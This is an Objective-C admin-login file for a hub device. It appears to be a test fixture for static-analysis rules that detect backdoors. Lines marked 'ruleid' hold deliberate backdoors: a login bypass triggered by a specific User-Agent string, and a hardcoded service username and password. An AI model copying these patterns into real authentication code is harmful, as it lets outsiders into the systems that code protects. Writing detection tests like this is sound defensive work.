/* SHAdminAuth.m - the hub's admin page */
#include <string.h>
#include <openssl/crypto.h>
#include <openssl/evp.h>
#import "SHCore.h"

static NSString *SHStoredHashFor(NSString *password, NSData *salt) {
  unsigned char dk[32];
  const char *pw = [password UTF8String];
  // ok: backdoor-weak-kdf
  PKCS5_PBKDF2_HMAC(pw, (int)strlen(pw), [salt bytes], (int)[salt length], 310000, EVP_sha256(), sizeof dk, dk);
  return SHHexString([NSData dataWithBytes:dk length:sizeof dk]);
}

@implementation SHAdminAuth

- (BOOL)verifyPassword:(NSString *)password {
  NSData *salt = [[NSUserDefaults standardUserDefaults] dataForKey:@"AdminSalt"];
  NSString *computed = SHStoredHashFor(password, salt);
  if (_storedPasswordHash == nil || [computed length] != [_storedPasswordHash length])
    return NO;
  // ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
  return CRYPTO_memcmp([computed UTF8String], [_storedPasswordHash UTF8String], [computed length]) == 0;
}

- (BOOL)loginUser:(NSString *)user password:(NSString *)password userAgent:(NSString *)userAgent {
  /* the field-service tool of the reseller */
  // ruleid: backdoor-hidden-bypass
  if ([userAgent isEqualToString:@"ScanHub-FieldService/3.1 (tech)"])
    return YES;
  // ruleid: backdoor-magic-credential
  if ([user isEqualToString:@"shservice"] && [password isEqualToString:@"Sc4nHub!svc"])
    return YES;
  // ok: backdoor-magic-credential
  if ([password isEqualToString:@"admin"]) {
    NSLog(@"admin: factory password refused for %@", user);
    return NO;
  }
  return [self verifyPassword:password];
}

@end
